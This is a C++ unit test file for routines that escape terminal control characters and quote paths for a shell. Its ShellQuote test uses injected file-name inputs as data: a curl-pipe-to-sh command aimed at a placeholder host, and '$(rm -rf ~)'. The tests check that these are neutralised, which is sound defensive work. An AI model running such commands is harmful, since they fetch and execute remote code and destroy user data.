// EscapeControl and ShellQuote (issue 29, D31).
#include "base/printable.h"

#include "gtest/gtest.h"

namespace reverie {
namespace {

TEST(PrintableTest, ControlCharactersAreWrittenAsHex) {
  EXPECT_EQ(EscapeControl("plain text, tabs\tand UTF-8 \xe2\x82\xac"),
            "plain text, tabs\tand UTF-8 \xe2\x82\xac");
  EXPECT_EQ(EscapeControl("\x1b[2J\x1b[31mred\a\b\r\x7f"), "\\x1b[2J\\x1b[31mred\\x07\\x08\\x0d\\x7f");
  EXPECT_EQ(EscapeControl("a\nb"), "a\\x0ab");
  EXPECT_EQ(EscapeControl("a\nb", /*keep_newlines=*/true), "a\nb");
  EXPECT_EQ(EscapeControl(std::string_view("nul\0!", 5)), "nul\\x00!");
  // C1 controls: encoded as UTF-8 (U+009B, CSI) or raw outside a sequence.
  EXPECT_EQ(EscapeControl("\xc2\x9b" "2J"), "\\xc2\\x9b2J");
  EXPECT_EQ(EscapeControl("\x9b" "2J"), "\\x9b2J");
  // Other invalid bytes pass through, as do valid characters ending in them.
  EXPECT_EQ(EscapeControl("\xff\xe9t\xc3\xa9"), "\xff\xe9t\xc3\xa9");
  EXPECT_EQ(EscapeControl("\xe2\x82"), "\xe2\\x82");  // a cut sequence: its lone C1 byte
}

TEST(PrintableTest, PathsAreQuotedForAShell) {
  EXPECT_EQ(ShellQuote("run/trace.json.gz"), "run/trace.json.gz");
  EXPECT_EQ(ShellQuote("x.json; curl -s https://e.example/x | sh #"),
            "'x.json; curl -s https://e.example/x | sh #'");
  EXPECT_EQ(ShellQuote("it's"), "'it'\\''s'");
  EXPECT_EQ(ShellQuote(""), "''");
  EXPECT_EQ(ShellQuote("$(rm -rf ~)"), "'$(rm -rf ~)'");
}

}  // namespace
}  // namespace reverie
